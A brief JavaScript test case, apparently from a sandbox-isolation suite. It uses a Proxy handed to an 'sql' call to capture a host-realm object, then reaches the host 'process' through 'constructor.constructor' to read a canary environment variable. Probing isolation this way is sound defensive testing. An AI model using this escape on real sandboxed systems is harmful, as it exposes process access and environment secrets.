// Hands the API a proxy that listens.
// realm: script-error
// bare: any
// control: none
let loot;
const trap = new Proxy([], { get: (_, key, receiver) => ((loot ??= receiver), undefined) });
await sql('SELECT 1', trap).catch(() => {});
answer(loot.constructor.constructor('return process')().env.CANARY);
